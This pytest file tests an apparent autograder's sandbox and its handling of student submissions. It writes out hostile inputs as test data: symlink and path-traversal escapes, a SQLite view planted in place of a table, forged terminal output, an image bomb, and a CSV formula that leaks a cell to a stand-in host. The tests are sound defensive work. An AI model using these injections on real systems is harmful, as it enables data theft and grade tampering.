"""The sandbox's view and the grader's reading of what a submission left behind, without
executing a notebook (fast), plus one real program run inside bubblewrap."""

from __future__ import annotations

import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from autograder import cli, course, sandbox, store
from autograder.kit import checking
from autograder.labspec import run_bounded
from tests.conftest import sandbox_slot

needs_bwrap = pytest.mark.skipif(sandbox.unavailable_reason() is not None, reason="needs bubblewrap")


def _inside(tmp_path: Path, script: str, **env: str) -> subprocess.CompletedProcess[str]:
    box = sandbox.Sandbox(tmp_path, extra_env=env, slot=sandbox_slot())
    box.prepare()
    return subprocess.run(box.command([sandbox.python(), "-c", script]), capture_output=True, text=True, timeout=60)


def test_the_view_holds_the_kit_but_not_the_repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "instructor-key")
    argv = sandbox.Sandbox(tmp_path).command(["true"])
    binds = [argv[i + 1] for i, a in enumerate(argv) if a in ("--bind", "--ro-bind", "--ro-bind-try")]
    inside_repo = [b for b in binds if Path(b).is_relative_to(course.ROOT)]
    kit = course.ROOT / "autograder"
    assert set(inside_repo) <= {str(kit / "__init__.py"), str(kit / "kit"), sys.prefix}, inside_repo
    assert str(Path.home()) not in binds
    assert "instructor-key" not in " ".join(argv)
    assert argv.count("--bind") == 1 and argv[argv.index("--bind") + 1] == str(tmp_path)  # the only writable place


@needs_bwrap
def test_a_program_inside_sees_only_its_folder_and_the_kit(tmp_path: Path) -> None:
    script = (
        "import os, pathlib, autograder.kit.labkit\n"
        f"print(pathlib.Path({str(course.ROOT / 'solutions')!r}).exists(), "
        f"pathlib.Path({str(course.ROOT / 'autograder' / 'references')!r}).exists(), "
        "pathlib.Path('/course/autograder/kit/checking.py').exists(), os.getuid() != 0, "
        "'AUTOGRADER_SANDBOX' in os.environ)\n"
        "import autograder.references\n"
    )
    done = _inside(tmp_path, script)
    assert done.stdout.split() == ["False", "False", "True", "True", "True"], done.stderr
    assert "No module named 'autograder.references'" in done.stderr


def test_run_bounded_keeps_the_memory_of_a_flood_small(tmp_path: Path) -> None:
    flood = [sys.executable, "-c", "import sys; sys.stdout.write('x' * (50 << 20)); sys.stderr.write('end')"]
    done = run_bounded(flood, tmp_path, None, max_output=1000)
    assert done.returncode == 0 and len(done.stdout) == 1000 and done.stderr == "end"
    slow = run_bounded([sys.executable, "-c", "import time; time.sleep(30)"], tmp_path, None, timeout=1)
    assert slow.returncode is None


def test_artifacts_are_read_only_inside_the_submission_folder(tmp_path: Path) -> None:
    folder, outside = tmp_path / "submission", tmp_path / "instructor-secret.txt"
    folder.mkdir()
    outside.write_text("secret")
    (folder / "plot.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (folder / "link.png").symlink_to(outside)
    assert checking.read_file((folder / "plot.png").as_uri(), confine_to=folder) == b"\x89PNG\r\n\x1a\n"
    assert checking.read_file((folder / "link.png").as_uri(), confine_to=folder) is None
    assert checking.read_file(outside.as_uri(), confine_to=folder) is None
    assert checking.read_file((folder / ".." / outside.name).as_uri(), confine_to=folder) is None


def test_the_store_is_copied_only_when_it_is_mlflows_own_real_file(tmp_path: Path) -> None:
    folder, private = tmp_path / "submission", tmp_path / "private"
    db = folder / "mlflow-store" / "mlflow.db"
    db.parent.mkdir(parents=True)
    secret = tmp_path / "instructor" / "mlflow-store"
    secret.mkdir(parents=True)
    shutil.copyfile(store.template(), secret / "mlflow.db")

    db.symlink_to(secret / "mlflow.db")  # a link to another store
    with pytest.raises(ValueError, match="not a regular file"):
        store.private_copy(folder, private)
    db.unlink()
    db.parent.rmdir()
    db.parent.symlink_to(secret)  # a linked folder
    with pytest.raises(ValueError, match="not a regular file"):
        store.private_copy(folder, private)
    db.parent.unlink()
    db.parent.mkdir()
    os.mkfifo(db)  # a FIFO would block the read forever
    with pytest.raises(ValueError, match="not a regular file"):
        store.private_copy(folder, private)
    db.unlink()
    shutil.copyfile(store.template(), db)
    assert store.private_copy(folder, private).endswith("private/mlflow-store/mlflow.db")
    with sqlite3.connect(db) as con:  # a view in place of a table runs in whoever reads it
        con.execute("ALTER TABLE experiment_tags RENAME TO old_tags")
        con.execute("CREATE VIEW experiment_tags AS SELECT * FROM old_tags")
    with pytest.raises(ValueError, match="altered"):
        store.private_copy(folder, private)


def test_without_a_sandbox_grading_refuses_in_one_line(capsys: pytest.CaptureFixture[str],
                                                      monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(sandbox, "unavailable_reason", lambda: "bubblewrap (bwrap) is not installed")
    notebook = course.LABS["01_tracking"].student
    assert cli.main(["grade", str(notebook), "--feedback-dir", str(tmp_path)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "apt-get install bubblewrap" in err[0] and "--no-sandbox" in err[0]
    assert cli.main(["class", str(tmp_path), "--out", str(tmp_path / "out")]) == 2


def test_a_uid_of_its_own_per_submission_when_grading_as_root(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("as a normal user the sandbox maps uid 65534 onto the user")
    a, b = sandbox.Sandbox(tmp_path, slot=0), sandbox.Sandbox(tmp_path, slot=1)
    assert a.uid != b.uid and min(a.uid, b.uid) >= sandbox.SANDBOX_UID_BASE


def test_text_from_a_submission_is_cleaned_and_cut() -> None:
    from autograder.grade import MAX_TEXT, clean

    hostile = "\x1b[1A\x1b[2K\r  PASS  everything 10/10" + "x" * 10_000
    line = clean(hostile)
    assert "\x1b" not in line and "\r" not in line and len(line) == MAX_TEXT


def test_grades_csv_cells_cannot_be_formulas(tmp_path: Path) -> None:
    from autograder import classreport

    record = {"student_id": "=HYPERLINK(\"http://x/?\"&A2)", "lab": "01_tracking", "path": "a.ipynb",
              "score": 0.0, "max_score": 10.0, "checks": [], "errors": ["@SUM(1)"], "restored": [],
              "seconds": 1.0}
    classreport.write_outputs([record], tmp_path, None)
    text = (tmp_path / "grades.csv").read_text()
    assert "'=HYPERLINK" in text and "'@SUM" in text
    assert ",=" not in text and "\n=" not in text


def test_a_figure_must_be_a_real_figure() -> None:
    import io

    from PIL import Image

    def summary(img: Image.Image) -> dict:
        buf = io.BytesIO()
        img.save(buf, "PNG")
        return checking.png_summary(buf.getvalue())

    square = Image.new("RGB", (300, 300), "white")
    square.paste((0, 0, 0), (0, 0, 60, 60))
    assert not checking.is_plot(summary(square))
    assert checking.png_summary(b"\x89PNG\r\n\x1a\n" + bytes(64)) == {"decodes": False}
    bomb = Image.new("1", (5000, 5000))  # 25 M pixels, a few kB compressed
    assert summary(bomb) == {"decodes": False}
